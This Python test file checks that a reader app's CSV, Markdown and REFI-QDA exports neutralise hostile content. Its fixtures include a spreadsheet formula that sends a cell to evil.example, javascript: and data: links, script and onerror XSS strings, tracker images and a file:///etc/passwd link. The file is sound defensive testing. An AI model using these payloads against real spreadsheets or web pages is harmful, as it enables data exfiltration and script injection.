"""Exports that open right in their apps, and carry nothing hostile (issues 12 and 14).

CSV for spreadsheets set to German, formula cells neutralised in every CSV export,
Markdown notes for Obsidian (front matter, block ids), unsafe links and remote images
kept out of Markdown, claims tables escaped, and the REFI-QDA project validated against
the QDA-XML 1.0 schema with every selection's span equal to its highlight's quote.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import zipfile
from pathlib import Path

import pytest

from reader.core.export import ExportOptions
from reader.core.export.csv_writer import COLUMNS
from reader.core.library import Library
from reader.core.models import AnnotationId
from tests.annotation_helpers import annotate, annotate_seeds
from tests.conftest import CONFORMANCE

DATA = CONFORMANCE / "refi-qda"
NS = {"q": "urn:QDA-XML:project:1.0"}
HOSTILE_NOTE = ('=HYPERLINK("http://evil.example/?x="&A1,"click") '
                '[x](javascript:alert(1)) ![](http://tracker.example/pixel.gif) '
                '<img src=x onerror=alert(1)>')


def _hostile(library: Library) -> AnnotationId:
    return annotate(library, "000", "Gigawatt", 1, label="Claim", note=HOSTILE_NOTE,
                    tags=["+cmd", "@SUM(1)", "-2", "\tTab"])


# ----------------------------------------------------------------------------------- CSV


def test_csv_opens_as_columns_in_a_german_spreadsheet(library: Library, tmp_path: Path) -> None:
    annotate_seeds(library)
    out = tmp_path / "highlights.csv"
    library.exports.render("csv", ExportOptions(csv_delimiter=";")).write(out)
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8, umlauts intact
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""),
                           delimiter=";"))
    assert tuple(rows[0]) == COLUMNS
    assert rows[0][:7] == ["document_title", "outlet", "date", "label", "quote", "note",
                           "tags"]
    assert rows[0][-2:] == ["id", "document_id"]
    assert all(len(row) == len(COLUMNS) for row in rows)
    quotes = {row[4] for row in rows[1:]}
    assert "über ein Gigawatt zusätzlicher Rechenkapazität" in quotes
    titles = {row[0] for row in rows[1:]}
    assert any("ü" in t or "ä" in t or "ö" in t for t in titles | quotes)


def test_csv_context_is_cut_at_word_boundaries(library: Library) -> None:
    annotate_seeds(library)
    rows = list(csv.DictReader(io.StringIO(library.exports.render("csv").text[1:], newline="")))
    for row in rows:
        doc = library.documents.get(row["document_id"])
        start, end = int(row["start"]), int(row["end"])
        before, after = (re.sub(r"^'(?=[-=+@\t\r])", "", row[key])  # neutralised cells
                         for key in ("context_before", "context_after"))
        if before:
            at = doc.text.rindex(before, 0, start + 1)
            assert at == 0 or not doc.text[at - 1].isalnum(), before
        if after:
            at = doc.text.index(after, end - 1) + len(after)
            assert at == len(doc.text) or not doc.text[at].isalnum(), after


def test_no_csv_cell_starts_a_formula(library: Library) -> None:
    ann = _hostile(library)
    other = annotate(library, "001", "Gigawatt", 1, label="Claim")
    library.annotations.link(ann, other, "same-claim")
    for delimiter in (",", ";"):
        text = library.exports.render("csv", ExportOptions(csv_delimiter=delimiter)) \
            .files[""].decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        row = dict(zip(rows[0], next(r for r in rows[1:] if "HYPERLINK" in r[5]),
                       strict=True))
        assert row["note"] == "'" + HOSTILE_NOTE
        assert row["tags"] == "'+cmd; @SUM(1); -2; Tab"
    from reader.core.compare import claim_groups_csv

    text = claim_groups_csv(library.compare.claim_groups())
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


# ------------------------------------------------------------------------------ Markdown


def test_markdown_keeps_unsafe_links_and_remote_images_out(library: Library) -> None:
    _hostile(library)
    text = library.exports.render("md").text
    assert "javascript:" not in text
    assert "![" not in text and "<img" not in text
    assert "[image (remote image, not loaded)](http://tracker.example/pixel.gif)" in text
    kept = library.exports.render("md", ExportOptions(remote_images=True)).files[""].decode()
    assert "![](http://tracker.example/pixel.gif)" in kept and "javascript:" not in kept


def test_claims_markdown_quotes_are_escaped(library: Library) -> None:
    from reader.core.compare import claim_groups_markdown

    service = library.annotations
    a = annotate(library, "000", "Gigawatt", 1)
    b = annotate(library, "001", "Gigawatt", 1)
    service.link(a, b, "same-claim")
    evil = "</textarea><script>alert(1)</script> | *x*"
    patched = [dataclasses.replace(g, claim=evil) for g in library.compare.claim_groups()]
    table = claim_groups_markdown(patched)
    assert "<script>" not in table and "</textarea>" not in table
    assert "&lt;script&gt;" in table
    assert table.splitlines()[2].count(" | ") == table.splitlines()[0].count(" | ")


def test_markdown_split_writes_one_note_per_document(library: Library, tmp_path: Path) -> None:
    ids = annotate_seeds(library)
    out = tmp_path / "notes"
    output = library.exports.render("md", ExportOptions(split=True))
    written = output.write(out)
    assert len(written) == 5 and all(p.suffix == ".md" for p in written)
    titles = {library.documents.find(p).title for p in ("000", "001", "002", "003", "004")}
    by_title: dict[str, str] = {}
    for path in written:
        text = path.read_text(encoding="utf-8")
        front, body = text.split("\n---\n", 1)
        assert front.startswith("---\n")
        fields = dict(line.split(": ", 1) for line in front.splitlines()[1:])
        assert set(fields) >= {"title", "lang", "tags"}
        title = fields["title"].strip('"')
        by_title[title] = text
        assert path.stem in title or title.startswith(path.stem[:20])
        assert body.lstrip().startswith("# ")
    assert set(by_title) == titles
    de = by_title[library.documents.get(library.documents.resolve("000")).title]
    block = ids["de_million"][:8]
    assert f"\n^{block}\n" in de
    assert "> bis zu eine Million Tensor Processing Units \\(TPUs\\)" in de or \
        "> bis zu eine Million Tensor Processing Units (TPUs)" in de
    assert "**Claim**" in de and '"tpu"' in de.split("---")[1]
    # A link to a highlight in another note is an Obsidian block link.
    target = library.documents.get(library.documents.resolve("001")).title
    assert re.search(r"supports \[\[" + re.escape(target[:20]), de)
    assert f"#^{ids['de_gigawatt'][:8]}]]" in de


# -------------------------------------------------------------------------------- REFI-QDA


def _schema() -> object:
    etree = pytest.importorskip("lxml.etree")
    return etree.XMLSchema(etree.parse(str(DATA / "Project.xsd")))


def _project(data: bytes) -> tuple[object, dict[str, bytes]]:
    etree = pytest.importorskip("lxml.etree")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    return etree.fromstring(files["project.qde"]), files


@pytest.mark.parametrize("crlf", [False, True])
def test_qdpx_export_validates_and_every_span_is_its_quote(
    library: Library, tmp_path: Path, crlf: bool,
) -> None:
    ids = annotate_seeds(library)
    _hostile(library)
    out = tmp_path / "project.qdpx"
    output = library.exports.render("qdpx", ExportOptions(crlf=crlf, user="Ana Researcher"))
    output.write(out)
    root, files = _project(out.read_bytes())
    schema = _schema()
    assert schema.validate(root), schema.error_log  # type: ignore[attr-defined]
    selections = root.findall(".//q:PlainTextSelection", NS)  # type: ignore[attr-defined]
    assert len(selections) == len(library.annotations.query())
    annotations = {a.id: a for a in library.annotations.query()}
    for source in root.findall(".//q:TextSource", NS):  # type: ignore[attr-defined]
        # QualCoder uses the name as a file name: nothing a file system refuses.
        assert not set(source.get("name")) & set('/\\:*?"<>|'), source.get("name")
        description = source.find("q:Description", NS).text
        assert description.startswith("Title: ") and "Parallax document id: " in description
        path = source.get("plainTextPath")
        assert path.startswith("internal://") and path.endswith(".txt")
        text = files["sources/" + path[len("internal://"):]].decode("utf-8")
        assert ("\r\n" in text) == crlf and (crlf or "\r" not in text)
        for selection in source.findall("q:PlainTextSelection", NS):
            annotation = annotations[selection.get("guid")]
            start, end = int(selection.get("startPosition")), int(selection.get("endPosition"))
            expected = annotation.selector.exact.replace("\n", "\r\n") if crlf \
                else annotation.selector.exact
            assert text[start:end] == expected
    user = root.find("q:Users/q:User", NS)  # type: ignore[attr-defined]
    assert user is not None and user.get("name") == "Ana Researcher"
    codes = {c.get("name"): c for c in root.iter("{urn:QDA-XML:project:1.0}Code")}  # type: ignore[attr-defined]
    assert codes["Claim"].get("color") and codes["Key figure"].get("color") == "#ff8800"
    assert codes["Tags"].get("isCodable") == "false"
    assert {"tpu", "energy", "+cmd"} <= {c.get("name") for c in codes["Tags"]
                                         .findall("q:Code", NS)}
    links = root.findall("q:Links/q:Link", NS)  # type: ignore[attr-defined]
    assert sorted(k.get("name") for k in links) == ["contradicts", "same-claim", "same-claim",
                                                    "supports"]
    million = next(s for s in selections if s.get("guid") == ids["de_million"])
    assert million.find("q:Description", NS).text.startswith("The headline number")
    assert len(million.findall("q:Coding", NS)) == 3  # the label and two tags


HOSTILE_LINKS = [
    "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a]( javascript:x)",
    "[a](&#106;avascript:x)", "[a](javascript&#58;x)", "[a](javascript\\:x)",
    "[a](java\tscript:x)", "[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](vbscript:x)",
    "<javascript:alert(1)>", "[a][r]\n\n[r]: javascript:alert(1)",
    '<a href="javascript:x">a</a>', "[a](file:///etc/passwd)",
]
REMOTE_IMAGES = [
    "![](http://tracker.example/p.gif)", "![x](https://t.example/p.png \"t\")",
    "![x](&#104;ttp://t.example/p.gif)", "![x][r]\n\n[r]: http://t.example/p.gif",
    "![x]\n\n[x]: //t.example/p.gif", '<img src="http://t.example/p.gif">',
]


@pytest.mark.parametrize("note", HOSTILE_LINKS + REMOTE_IMAGES)
def test_no_unsafe_link_or_remote_image_survives_a_markdown_viewer(note: str) -> None:
    import html as html_module

    import markdown

    from reader.core.export.escaping import safe_note_markdown
    from reader.core.export.markdown import _escape_raw_html

    rendered = markdown.markdown(_escape_raw_html(safe_note_markdown(note)))
    hrefs = [html_module.unescape(h) for h in re.findall(r'<a href="([^"]*)"', rendered)]
    for href in hrefs:
        compact = "".join(ch for ch in href if ch > " ").lower()
        assert compact.startswith(("http:", "https:", "mailto:", "#")) or ":" not in \
            compact.split("/")[0], (note, rendered)
    assert "<img" not in rendered, (note, rendered)
    assert "<a href=\"javascript" not in rendered.lower()


def test_safe_links_and_local_images_are_kept() -> None:
    from reader.core.export.escaping import safe_note_markdown

    kept = ["[ok](https://example.org/a_(b)?x=1&y=2)", "[r](notes/other.md)", "[m](mailto:a@b.c)",
            "[top](#highlight-1)", "![local](figures/chart.png)", "`[x](javascript:y)` in code"]
    for note in kept:
        assert safe_note_markdown(note) == note
